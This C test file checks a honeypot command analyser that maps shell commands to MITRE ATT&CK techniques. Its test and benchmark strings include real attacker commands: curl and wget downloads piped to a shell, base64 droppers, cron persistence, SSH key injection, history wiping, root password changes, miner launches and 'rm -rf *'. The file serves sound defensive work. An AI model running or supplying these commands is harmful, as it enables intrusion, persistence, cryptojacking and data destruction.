/* test_attack.c — the ATT&CK table, the rules file compiler and the statement mapper.
 *
 * Modes: no argument runs the tests; `bench [seconds]` prints parse+map throughput on a mix of
 * honeypot lines (one core); `eval [corpus.tsv]` prints the corpus evaluation report (default
 * tests/corpus/mapper.tsv); `map` reads lines on stdin and prints each statement's techniques.
 */
#include "check.h"

#include <stdint.h>
#include <time.h>

#include "understand/attack.h"
#include "understand/mapper_eval.h"
#include "understand/shell.h"
#include "util/arena.h"

/* ---- helpers ----------------------------------------------------------------------------- */

/* tests/ of the source tree, from this file's path. */
static const char *tests_dir(void)
{
    static char dir[2048];
    snprintf(dir, sizeof dir, "%s", __FILE__);
    char *p = strstr(dir, "/unit/test_attack.c");
    if (p)
        *p = '\0';
    return dir;
}

static const char *test_path(const char *rel)
{
    static char path[4][4096];
    static int k;
    k = (k + 1) % 4;
    snprintf(path[k], sizeof path[k], "%.2047s/%.1024s", tests_dir(), rel);
    return path[k];
}

typedef struct diag_log {
    int n, errors, warnings;
    char file[16][512];
    unsigned line[16];
    int sev[16];
    char msg[16][512];
} diag_log;

static void collect(void *user, const ap_diag *d)
{
    diag_log *l = user;
    if (d->severity == AP_SEV_ERROR)
        l->errors++;
    if (d->severity == AP_SEV_WARNING)
        l->warnings++;
    if (l->n < 16) {
        snprintf(l->file[l->n], sizeof l->file[0], "%s", d->file ? d->file : "");
        l->line[l->n] = (unsigned)d->line;
        l->sev[l->n] = (int)d->severity;
        snprintf(l->msg[l->n], sizeof l->msg[0], "%s", d->message ? d->message : "");
    }
    l->n++;
}

/* Index of the first diagnostic at `line` whose message contains `needle`, or -1. */
static int find_diag(const diag_log *l, unsigned line, const char *needle)
{
    for (int i = 0; i < l->n && i < 16; i++)
        if (l->line[i] == line && strstr(l->msg[i], needle))
            return i;
    return -1;
}

/* Techniques of every statement of `line`, as "T1,T2,..." in first-seen order. */
static const char *map_line(ap_attack *a, const char *line, char *buf, size_t cap)
{
    ap_arena arena;
    ap_arena_init(&arena, 16 * 1024);
    ap_stmt *stmts = NULL;
    size_t n = 0;
    buf[0] = '\0';
    if (ap_shell_parse(ap_str_c(line), NULL, &arena, &stmts, &n, NULL) == AP_OK) {
        for (size_t i = 0; i < n; i++) {
            ap_match m[32];
            size_t count = 0;
            if (ap_attack_map_stmt(a, stmts, n, i, m, 32, &count) != AP_OK)
                break;
            for (size_t k = 0; k < count && k < 32; k++) {
                char item[24];
                snprintf(item, sizeof item, ",%s,", m[k].technique->id);
                char padded[4096];
                snprintf(padded, sizeof padded, ",%s,", buf);
                if (strstr(padded, item))
                    continue;
                size_t len = strlen(buf);
                snprintf(buf + len, cap - len, "%s%s", len ? "," : "", m[k].technique->id);
            }
        }
    }
    ap_arena_free(&arena);
    return buf;
}

static int has_technique(const char *list, const char *id)
{
    char padded[4096], item[32];
    snprintf(padded, sizeof padded, ",%s,", list);
    snprintf(item, sizeof item, ",%s,", id);
    return strstr(padded, item) != NULL;
}

/* 1 when rule r fires on some statement of text. */
static int rule_fires_on(ap_attack *a, size_t r, const char *text)
{
    ap_arena arena;
    ap_arena_init(&arena, 16 * 1024);
    ap_stmt *stmts = NULL;
    size_t n = 0;
    int fired = 0;
    if (ap_shell_parse(ap_str_c(text), NULL, &arena, &stmts, &n, NULL) == AP_OK)
        for (size_t i = 0; i < n && !fired; i++)
            fired = ap_attack_rule_fires(a, r, stmts, n, i);
    ap_arena_free(&arena);
    return fired;
}

/* ---- the technique table ----------------------------------------------------------------- */

static void test_table(void)
{
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(NULL, &a), AP_OK);
    if (!a)
        return;
    CHECK_EQ_INT(ap_attack_technique_count(a), 835);
    CHECK_EQ_INT(ap_attack_tactic_count(a), 14);
    CHECK_EQ_STR(ap_attack_tactic_at(a, 0)->id, "TA0043");
    CHECK_EQ_STR(ap_attack_tactic_at(a, 0)->shortname, "reconnaissance");
    CHECK_EQ_STR(ap_attack_tactic_at(a, 13)->id, "TA0040");
    CHECK_EQ_STR(ap_attack_tactic_at(a, 13)->name, "Impact");
    CHECK(ap_attack_tactic_at(a, 14) == NULL);

    const ap_technique *t = ap_attack_technique(a, ap_str_c("T1098.004"));
    CHECK(t != NULL);
    if (t) {
        CHECK_EQ_STR(t->name, "SSH Authorized Keys");
        CHECK_EQ_STR(t->parent_name, "Account Manipulation");
        CHECK_EQ_STR(t->tactics, "persistence,privilege-escalation");
        CHECK_EQ_STR(t->stix_id, "attack-pattern--6b57dc31-b814-4a03-8706-28bc20d739c4");
        CHECK_EQ_INT(t->status, AP_TECH_ACTIVE);
    }
    t = ap_attack_technique(a, ap_str_c("T1098"));
    CHECK(t && t->parent_name == NULL && strcmp(t->name, "Account Manipulation") == 0);
    /* tactics come out in matrix order, whatever order the source lists them in */
    t = ap_attack_technique(a, ap_str_c("T1078"));
    CHECK(t && strcmp(t->tactics, "initial-access,persistence,privilege-escalation,defense-evasion") == 0);
    t = ap_attack_technique(a, ap_str_c("T1059.004"));
    CHECK(t && strcmp(t->name, "Unix Shell") == 0 &&
          strcmp(t->parent_name, "Command and Scripting Interpreter") == 0 &&
          strcmp(t->tactics, "execution") == 0);
    t = ap_attack_technique(a, ap_str_c("T1496.001"));
    CHECK(t && strcmp(t->name, "Compute Hijacking") == 0 && strcmp(t->tactics, "impact") == 0);
    /* revoked and deprecated entries are in the table with their status */
    t = ap_attack_technique(a, ap_str_c("T1086"));
    CHECK(t && t->status == AP_TECH_REVOKED);
    t = ap_attack_technique(a, ap_str_c("T1064"));
    CHECK(t && t->status == AP_TECH_DEPRECATED);
    CHECK(ap_attack_technique(a, ap_str_c("T9999")) == NULL);
    CHECK(ap_attack_technique(a, ap_str_c("T1098.00")) == NULL);
    CHECK(ap_attack_technique(a, AP_STR_NULL) == NULL);
    CHECK(ap_attack_technique(a, ap_str_make("T1098.004x", 9)) != NULL); /* a view, not a C string */
    /* every entry is found by its own id */
    size_t found = 0;
    for (size_t i = 0; i < ap_attack_technique_count(a); i++) {
        const ap_technique *e = ap_attack_technique_at(a, i);
        found += ap_attack_technique(a, ap_str_c(e->id)) == e;
    }
    CHECK_EQ_INT(found, 835);

    const char *v = ap_attack_version(a);
    CHECK(strncmp(v, "attack-18.1/rules-", 18) == 0 && strlen(v) == 30);
    ap_attack_free(a);
    ap_attack_free(NULL);
}

/* ---- the shipped rules --------------------------------------------------------------------- */

static void test_shipped_rules(void)
{
    diag_log log;
    memset(&log, 0, sizeof log);
    ap_attack_options opt = {NULL, NULL, collect, &log};
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_OK);
    CHECK_EQ_INT(log.n, 0);
    if (!a)
        return;
    size_t nrules = ap_attack_rule_count(a);
    CHECK(nrules >= 90);
    /* distinct technique ids (sub-techniques counted separately), all active */
    const char *ids[1024];
    size_t nids = 0, inactive = 0;
    for (size_t r = 0; r < nrules; r++) {
        const ap_rule_info *ri = ap_attack_rule_at(a, r);
        inactive += ri->technique->status != AP_TECH_ACTIVE;
        CHECK(ri->reason && ri->reason[0] && ri->nexamples >= 1 && ri->ncounters >= 1);
        CHECK_EQ_STR(ri->file, "data/rules/attack.rules");
        size_t k = 0;
        while (k < nids && strcmp(ids[k], ri->technique->id) != 0)
            k++;
        if (k == nids && nids < 1024)
            ids[nids++] = ri->technique->id;
    }
    CHECK(nids >= 80);
    CHECK_EQ_INT(inactive, 0);
    /* the techniques the issue names are all covered */
    static const char *required[] = {
        "T1098", "T1098.004", "T1053.003", "T1136.001", "T1546.004", "T1003.008", "T1078",
        "T1110", "T1110.001", "T1110.002", "T1110.003", "T1110.004", "T1552.001", "T1552.003",
        "T1552.004", "T1046", "T1018", "T1082", "T1083", "T1105", "T1059.004", "T1059.006",
        "T1222.002", "T1564.001", "T1070.002", "T1070.003", "T1070.004", "T1070.006",
        "T1562.001", "T1562.004", "T1562.012", "T1496.001", "T1057", "T1087.001", "T1016",
        "T1049", "T1518", "T1033", "T1069.001", "T1201", "T1124", "T1614", "T1543.002",
        "T1037.004", "T1090", "T1027", "T1140", "T1036.005", "T1489", "T1485", "T1561.001",
        "T1490", "T1498.001", "T1499", "T1027.010", "T1560.001", "T1048.003", "T1021.004", "T1563.001",
        "T1053.002", "T1547.006", "T1574.006", "T1548.001", "T1548.003", "T1611", "T1497.001"};
    for (size_t i = 0; i < sizeof required / sizeof required[0]; i++) {
        size_t k = 0;
        while (k < nids && strcmp(ids[k], required[i]) != 0)
            k++;
        if (k == nids)
            fprintf(stderr, "no rule for %s\n", required[i]);
        CHECK(k < nids);
    }

    /* every rule's examples fire it and its counter-examples do not (checked twice: through
     * the library's own check and here, one example at a time) */
    size_t failures = 99;
    memset(&log, 0, sizeof log);
    CHECK_EQ_INT(ap_attack_check_examples(a, collect, &log, &failures), AP_OK);
    CHECK_EQ_INT(failures, 0);
    for (int i = 0; i < log.n && i < 16; i++)
        fprintf(stderr, "%s:%u: %s\n", log.file[i], log.line[i], log.msg[i]);
    size_t examples = 0, bad = 0;
    char buf[4096];
    for (size_t r = 0; r < nrules; r++) {
        const ap_rule_info *ri = ap_attack_rule_at(a, r);
        for (size_t e = 0; e < ri->nexamples; e++, examples++) {
            int ok = rule_fires_on(a, r, ri->examples[e].text) &&
                     has_technique(map_line(a, ri->examples[e].text, buf, sizeof buf), ri->technique->id);
            if (!ok) {
                bad++;
                fprintf(stderr, "%s:%u: rule %s: example does not map to %s: %s\n", ri->file,
                        ri->examples[e].line, ri->id, ri->technique->id, ri->examples[e].text);
            }
        }
        for (size_t e = 0; e < ri->ncounters; e++, examples++) {
            if (rule_fires_on(a, r, ri->counters[e].text)) {
                bad++;
                fprintf(stderr, "%s:%u: rule %s: counter example fires: %s\n", ri->file,
                        ri->counters[e].line, ri->id, ri->counters[e].text);
            }
        }
    }
    CHECK(examples >= 2 * nrules);
    CHECK_EQ_INT(bad, 0);
    ap_attack_free(a);
}

/* ---- mapping behaviour ------------------------------------------------------------------- */

static void test_mapping(void)
{
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(NULL, &a), AP_OK);
    if (!a)
        return;
    char buf[4096];
    /* the predecessor's mistake: lockr/chattr on .ssh is a permissions change, nothing else */
    CHECK_EQ_STR(map_line(a, "lockr -ia .ssh", buf, sizeof buf), "T1222.002");
    CHECK_EQ_STR(map_line(a, "chattr -ia .ssh", buf, sizeof buf), "T1222.002");
    /* the mdrfckr key injection */
    map_line(a,
             "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4 "
             "mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
             buf, sizeof buf);
    CHECK(has_technique(buf, "T1098.004"));
    CHECK(has_technique(buf, "T1222.002"));
    CHECK(!has_technique(buf, "T1021.004"));
    /* a base64 dropper: decoded, deobfuscated, run by a shell; the decoded wget is ingress */
    map_line(a, "echo d2dldCBodHRwOi8vMS4yLjMuNC94 | base64 -d | sh", buf, sizeof buf);
    CHECK(has_technique(buf, "T1140"));
    CHECK(has_technique(buf, "T1059.004"));
    CHECK(has_technique(buf, "T1105"));
    /* harmless commands map to nothing */
    CHECK_EQ_STR(map_line(a, "echo hello", buf, sizeof buf), "");
    CHECK_EQ_STR(map_line(a, "cd /tmp", buf, sizeof buf), "");
    CHECK_EQ_STR(map_line(a, "", buf, sizeof buf), "");

    /* one match per technique, in rule-file order; count may exceed max */
    ap_arena arena;
    ap_arena_init(&arena, 16 * 1024);
    ap_stmt *stmts = NULL;
    size_t n = 0;
    CHECK_EQ_INT(ap_shell_parse(ap_str_c("curl -fsSL http://1.2.3.4/x.sh | bash"), NULL, &arena, &stmts, &n, NULL), AP_OK);
    CHECK_EQ_INT(n, 2);
    ap_match m[8];
    size_t count = 0;
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 1, m, 8, &count), AP_OK);
    CHECK(count >= 1);
    CHECK_EQ_STR(m[0].technique->id, "T1059.004");
    CHECK_EQ_STR(m[0].rule->id, "exec.pipe_to_shell");
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 0, m, 8, &count), AP_OK);
    CHECK_EQ_INT(count, 1);
    CHECK_EQ_STR(m[0].technique->id, "T1105");
    CHECK_EQ_STR(m[0].rule->id, "c2.download_curl_used");
    size_t full = 0;
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 1, m, 8, &full), AP_OK);
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 1, NULL, 0, &count), AP_OK);
    CHECK_EQ_INT(count, full);
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 5, m, 8, &count), AP_OK); /* out of range */
    CHECK_EQ_INT(count, 0);
    /* a statement that matches several techniques reports each once */
    ap_arena_reset(&arena);
    CHECK_EQ_INT(ap_shell_parse(ap_str_c("nohup ./xmrig -o stratum+tcp://1.2.3.4:3333 --donate-level 1 &"), NULL,
                                &arena, &stmts, &n, NULL), AP_OK);
    CHECK_EQ_INT(ap_attack_map_stmt(a, stmts, n, 0, m, 8, &count), AP_OK);
    int miners = 0;
    for (size_t k = 0; k < count && k < 8; k++)
        miners += strcmp(m[k].technique->id, "T1496.001") == 0;
    CHECK_EQ_INT(miners, 1);

    /* hostile input: every statement of a megabyte of shell metacharacters maps without error */
    static const char noise[] = "a|;$(`'\"\\\n\x01\xff> cat /etc/shadow >> /tmp/.x\n";
    static char big[1 << 20];
    for (size_t i = 0; i < sizeof big - 1; i++)
        big[i] = noise[i % (sizeof noise - 1)];
    big[sizeof big - 1] = '\0';
    ap_arena_reset(&arena);
    CHECK_EQ_INT(ap_shell_parse(ap_str_make(big, sizeof big - 1), NULL, &arena, &stmts, &n, NULL), AP_OK);
    CHECK(n > 0);
    size_t mapped = 0, errors = 0;
    for (size_t i = 0; i < n; i++) {
        size_t c = 0;
        errors += ap_attack_map_stmt(a, stmts, n, i, m, 8, &c) != AP_OK;
        mapped += c;
    }
    CHECK_EQ_INT(errors, 0);
    CHECK(mapped > 0);
    ap_arena_free(&arena);
    ap_attack_free(a);
}

/* ---- rule files that do not load -------------------------------------------------------- */

static void test_unknown_technique(void)
{
    diag_log log;
    memset(&log, 0, sizeof log);
    const char *path = test_path("data/attack/unknown_technique.rules");
    ap_attack_options opt = {path, NULL, collect, &log};
    ap_attack *a = (ap_attack *)1;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_ERR_FORMAT);
    CHECK(a == NULL);
    CHECK_EQ_INT(log.errors, 1);
    CHECK_EQ_STR(log.file[0], path);
    CHECK_EQ_INT(log.line[0], 9);
    CHECK(strstr(log.msg[0], "T9999.999") && strstr(log.msg[0], "t.unknown"));
}

static void test_bad_syntax(void)
{
    diag_log log;
    memset(&log, 0, sizeof log);
    const char *path = test_path("data/attack/bad_syntax.rules");
    ap_attack_options opt = {path, NULL, collect, &log};
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_ERR_FORMAT);
    CHECK(a == NULL);
    CHECK(find_diag(&log, 1, "outside a rule") >= 0);
    CHECK(find_diag(&log, 6, "unknown key 'colour'") >= 0);
    CHECK(find_diag(&log, 7, "bad pattern") >= 0);
    CHECK(find_diag(&log, 11, "defined twice (first at line 2)") >= 0);
    CHECK(find_diag(&log, 18, "no example") >= 0);
    CHECK(find_diag(&log, 18, "no counter example") >= 0);
    CHECK(find_diag(&log, 26, "unknown step 'teleport'") >= 0);
    CHECK(find_diag(&log, 23, "no matcher") >= 0);
    CHECK_EQ_INT(log.errors, 8);
    for (int i = 0; i < log.n && i < 16; i++)
        CHECK_EQ_STR(log.file[i], path);

    /* a missing file is an I/O error, named */
    memset(&log, 0, sizeof log);
    opt.rules_path = test_path("data/attack/does-not-exist.rules");
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_ERR_IO);
    CHECK_EQ_INT(log.errors, 1);
    CHECK_EQ_STR(log.file[0], opt.rules_path);
}

/* ---- a STIX bundle that revokes and deprecates techniques rules use ------------------------ */

static void test_bundle(void)
{
    diag_log log;
    memset(&log, 0, sizeof log);
    const char *rules = test_path("data/attack/small.rules");
    const char *bundle = test_path("data/attack/bundle_small.json");
    ap_attack_options opt = {rules, bundle, collect, &log};
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_OK);
    CHECK_EQ_INT(log.errors, 0);
    CHECK_EQ_INT(log.warnings, 2);
    int k = find_diag(&log, 5, "T1098.004");
    CHECK(k >= 0 && strstr(log.msg[k], "revoked") && strstr(log.msg[k], "t.keys") &&
          strcmp(log.file[k], rules) == 0 && log.sev[k] == AP_SEV_WARNING);
    k = find_diag(&log, 12, "T1053.003");
    CHECK(k >= 0 && strstr(log.msg[k], "deprecated") && strstr(log.msg[k], "t.cron"));
    if (!a)
        return;
    CHECK_EQ_INT(ap_attack_technique_count(a), 5); /* the CAPEC object is not an ATT&CK id */
    CHECK_EQ_INT(ap_attack_tactic_count(a), 3);
    CHECK_EQ_STR(ap_attack_tactic_at(a, 0)->shortname, "privilege-escalation"); /* matrix order */
    CHECK_EQ_STR(ap_attack_tactic_at(a, 1)->id, "TA0002");
    const ap_technique *t = ap_attack_technique(a, ap_str_c("T1053.003"));
    CHECK(t && t->status == AP_TECH_DEPRECATED && strcmp(t->parent_name, "Scheduled Task/Job") == 0 &&
          strcmp(t->tactics, "execution,persistence") == 0);
    t = ap_attack_technique(a, ap_str_c("T1098"));
    CHECK(t && strcmp(t->tactics, "privilege-escalation,persistence") == 0 &&
          strcmp(t->stix_id, "attack-pattern--account-manipulation") == 0);
    t = ap_attack_technique(a, ap_str_c("T1098.004"));
    CHECK(t && t->status == AP_TECH_REVOKED && strcmp(t->parent_name, "Account Manipulation") == 0);
    CHECK(strncmp(ap_attack_version(a), "attack-99.0/rules-", 18) == 0);
    CHECK_EQ_INT(ap_attack_rule_count(a), 3);
    CHECK_EQ_INT(ap_attack_check_examples(a, NULL, NULL, NULL), AP_OK);
    ap_attack_free(a);

    /* a file that is not a bundle */
    memset(&log, 0, sizeof log);
    opt.bundle_path = rules;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_ERR_FORMAT);
    CHECK_EQ_INT(log.errors, 1);
    CHECK_EQ_STR(log.file[0], rules);
    CHECK_EQ_INT(log.line[0], 1);
}

/* ---- literal prefilters never reject a statement the regex would match ------------------ */

static void test_prefilters(void)
{
    diag_log log;
    memset(&log, 0, sizeof log);
    ap_attack_options opt = {test_path("data/attack/prefilter.rules"), NULL, collect, &log};
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(&opt, &a), AP_OK);
    CHECK_EQ_INT(log.n, 0);
    if (!a)
        return;
    CHECK_EQ_INT(ap_attack_rule_count(a), 9);
    size_t failures = 99;
    memset(&log, 0, sizeof log);
    CHECK_EQ_INT(ap_attack_check_examples(a, collect, &log, &failures), AP_OK);
    CHECK_EQ_INT(failures, 0);
    for (int i = 0; i < log.n && i < 16; i++)
        fprintf(stderr, "%s:%u: %s\n", log.file[i], log.line[i], log.msg[i]);
    ap_attack_free(a);
}

/* ---- corpus evaluation ------------------------------------------------------------------- */

static void test_eval_small(void)
{
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(NULL, &a), AP_OK);
    if (!a)
        return;
    const char *corpus = "# comment\n"
                         "\n"
                         "lockr -ia .ssh\tT1222.002\tpermissions, not lateral movement\n"
                         "echo hello\t-\n"
                         "uname -a\tT1082,T1033\twrong on purpose: T1033 is a false negative\n"
                         "echo a\\tb\\\\c\t-\tescapes\n"
                         "no tab here\n"
                         "ls\tT10\tbad id\n";
    diag_log log;
    memset(&log, 0, sizeof log);
    ap_mapper_eval_result *r = NULL;
    CHECK_EQ_INT(ap_mapper_eval(a, ap_str_c(corpus), "mini.tsv", collect, &log, &r), AP_OK);
    CHECK_EQ_INT(log.errors, 2);
    CHECK(find_diag(&log, 7, "no tab") >= 0);
    CHECK(find_diag(&log, 8, "EXPECTED") >= 0);
    const ap_eval_summary *s = ap_mapper_eval_summary(r);
    CHECK(s != NULL);
    if (!s) {
        ap_attack_free(a);
        return;
    }
    CHECK_EQ_INT(s->lines, 4);
    CHECK_EQ_INT(s->bad_lines, 2);
    CHECK_EQ_INT(s->exact, 3);
    CHECK_EQ_INT(s->tp, 2);
    CHECK_EQ_INT(s->fp, 0);
    CHECK_EQ_INT(s->fn, 1);
    CHECK(s->micro_f1 > 0.799 && s->micro_f1 < 0.801); /* 2*2 / (2*2 + 0 + 1) */
    CHECK_EQ_INT(ap_mapper_eval_score_count(r), 3);
    const ap_eval_score *e = ap_mapper_eval_score_at(r, 0);
    CHECK(e && strcmp(e->technique, "T1033") == 0 && e->fn == 1 && e->f1 == 0.0 &&
          strcmp(e->name, "System Owner/User Discovery") == 0);
    CHECK(s->macro_f1 > 0.666 && s->macro_f1 < 0.667); /* (0 + 1 + 1) / 3 */
    CHECK_EQ_INT(ap_mapper_eval_miss_count(r), 1);
    const ap_eval_miss *m = ap_mapper_eval_miss_at(r, 0);
    CHECK(m && m->line == 5 && strcmp(m->expected, "T1033,T1082") == 0 &&
          strcmp(m->predicted, "T1082") == 0 && strcmp(m->input, "uname -a") == 0);
    ap_mapper_eval_free(r);
    ap_attack_free(a);
}

/* The project's corpus, when present: the acceptance bar of issue 3. */
static void test_eval_corpus(void)
{
    const char *path = test_path("corpus/mapper.tsv");
    FILE *f = fopen(path, "rb");
    if (!f) {
        fprintf(stderr, "note: %s not found, corpus evaluation skipped\n", path);
        return;
    }
    static char text[4 << 20];
    size_t len = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    ap_attack *a = NULL;
    CHECK_EQ_INT(ap_attack_load(NULL, &a), AP_OK);
    ap_mapper_eval_result *r = NULL;
    CHECK_EQ_INT(ap_mapper_eval(a, ap_str_make(text, len), path, NULL, NULL, &r), AP_OK);
    const ap_eval_summary *s = ap_mapper_eval_summary(r);
    if (s) {
        printf("corpus: %llu lines, micro-F1 %.4f, macro-F1 %.4f\n", (unsigned long long)s->lines,
               s->micro_f1, s->macro_f1);
        CHECK(s->lines >= 400);
        CHECK_EQ_INT(s->bad_lines, 0);
        CHECK(s->micro_f1 >= 0.95);
        CHECK(s->macro_f1 >= 0.90);
    }
    ap_mapper_eval_free(r);
    ap_attack_free(a);
}

/* ---- modes ------------------------------------------------------------------------------- */

static const char *bench_lines[] = {
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cat /proc/mounts; /bin/busybox NIGGA",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox MIORI",
    "echo -e '\\x41\\x4b\\x34\\x37'",
    "nohup ./xmrig -o pool.supportxmr.com:443 -u 4xxx -k --tls > /dev/null 2>&1 &",
    "echo \"root:Fd8c3kq\"|chpasswd",
    "curl -s http://1.2.3.4/x.sh | bash",
    "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMS4yLjMuNC94OyBjaG1vZCAreCB4OyAuL3g= | base64 -d | sh",
    "ps aux | grep -v grep | grep -i xmrig | awk '{print $2}' | xargs kill -9",
    "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://1.2.3.4/c.sh | sh\") | crontab -",
    "chattr -ia ~/.ssh; lockr -ia .ssh",
    "history -c; rm -rf ~/.bash_history; unset HISTFILE",
    "ifconfig; netstat -antp; cat /etc/passwd",
    "export PATH=$PATH:/bin:/sbin:/usr/bin:/usr/sbin",
    "cat /etc/issue; cat /etc/os-release; nproc; uptime",
};

/* CPU time of this process: the machine may be shared, and one core is what is measured. */
static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int run_bench(double seconds, const char *rules_path)
{
    ap_attack *a = NULL;
    ap_attack_options opt = {rules_path, NULL, NULL, NULL};
    if (ap_attack_load(&opt, &a) != AP_OK)
        return 1;
    size_t nlines = sizeof bench_lines / sizeof bench_lines[0];
    ap_str lines[64];
    for (size_t i = 0; i < nlines; i++)
        lines[i] = ap_str_c(bench_lines[i]);
    ap_arena arena;
    ap_arena_init(&arena, 64 * 1024);
    uint64_t statements = 0, matches = 0, rounds = 0;
    double t0 = now(), t1 = t0;
    for (double parse_only = 0; t1 - t0 < seconds; rounds++) {
        for (size_t i = 0; i < nlines; i++) {
            ap_arena_reset(&arena);
            ap_stmt *stmts = NULL;
            size_t n = 0;
            if (ap_shell_parse(lines[i], NULL, &arena, &stmts, &n, NULL) != AP_OK)
                return 1;
            for (size_t k = 0; k < n; k++) {
                ap_match m[16];
                size_t count = 0;
                ap_attack_map_stmt(a, stmts, n, k, m, 16, &count);
                matches += count;
            }
            statements += n;
        }
        (void)parse_only;
        t1 = now();
    }
    double parse_mapped = (double)statements / (t1 - t0);
    /* the parser alone, for comparison */
    uint64_t pstatements = 0;
    double p0 = now(), p1 = p0;
    while (p1 - p0 < seconds / 2) {
        for (size_t i = 0; i < nlines; i++) {
            ap_arena_reset(&arena);
            ap_stmt *stmts = NULL;
            size_t n = 0;
            ap_shell_parse(lines[i], NULL, &arena, &stmts, &n, NULL);
            pstatements += n;
        }
        p1 = now();
    }
    printf("%zu rules, %zu lines x %llu rounds: %llu statements, %llu matches in %.2f s\n",
           ap_attack_rule_count(a), nlines, (unsigned long long)rounds,
           (unsigned long long)statements, (unsigned long long)matches, t1 - t0);
    printf("parse + map: %.0f statements/s (parse only: %.0f statements/s)\n", parse_mapped,
           (double)pstatements / (p1 - p0));
    ap_arena_free(&arena);
    ap_attack_free(a);
    return 0;
}

static int run_eval(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f) {
        fprintf(stderr, "cannot open %s\n", path);
        return 2;
    }
    static char text[16 << 20];
    size_t len = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    ap_attack *a = NULL;
    if (ap_attack_load(NULL, &a) != AP_OK)
        return 1;
    ap_mapper_eval_result *r = NULL;
    diag_log log;
    memset(&log, 0, sizeof log);
    if (ap_mapper_eval(a, ap_str_make(text, len), path, collect, &log, &r) != AP_OK)
        return 1;
    for (int i = 0; i < log.n && i < 16; i++)
        fprintf(stderr, "%s:%u: %s\n", log.file[i], log.line[i], log.msg[i]);
    ap_mapper_eval_write_report(r, stdout, 1);
    ap_mapper_eval_free(r);
    ap_attack_free(a);
    return 0;
}

static int run_map(void)
{
    ap_attack *a = NULL;
    if (ap_attack_load(NULL, &a) != AP_OK)
        return 1;
    static char line[1 << 20];
    ap_arena arena;
    ap_arena_init(&arena, 64 * 1024);
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\n")] = '\0';
        ap_arena_reset(&arena);
        ap_stmt *stmts = NULL;
        size_t n = 0;
        ap_shell_parse(ap_str_c(line), NULL, &arena, &stmts, &n, NULL);
        for (size_t i = 0; i < n; i++) {
            ap_match m[32];
            size_t count = 0;
            ap_attack_map_stmt(a, stmts, n, i, m, 32, &count);
            printf("  [%zu] cmd=%.*s via=%u conn=%d parent=%d: %.*s\n", i, (int)stmts[i].cmd.n,
                   stmts[i].cmd.p ? stmts[i].cmd.p : "", stmts[i].via, (int)stmts[i].conn,
                   (int)stmts[i].parent, (int)stmts[i].text.n, stmts[i].text.p ? stmts[i].text.p : "");
            for (size_t k = 0; k < count && k < 32; k++)
                printf("        %s %s (%s)\n", m[k].technique->id, m[k].technique->name, m[k].rule->id);
        for (size_t r = 0; r < stmts[i].nredir; r++)
            printf("        redir '%.*s' -> '%.*s'\n", (int)stmts[i].redir[r].op.n, stmts[i].redir[r].op.p,
                   (int)stmts[i].redir[r].target.n, stmts[i].redir[r].target.p ? stmts[i].redir[r].target.p : "");
        for (size_t r = 0; r < stmts[i].argc; r++)
            printf("        argv[%zu] '%.*s'\n", r, (int)stmts[i].argv[r].n, stmts[i].argv[r].p ? stmts[i].argv[r].p : "");
        }
    }
    ap_arena_free(&arena);
    ap_attack_free(a);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc > 1 && strcmp(argv[1], "bench") == 0)
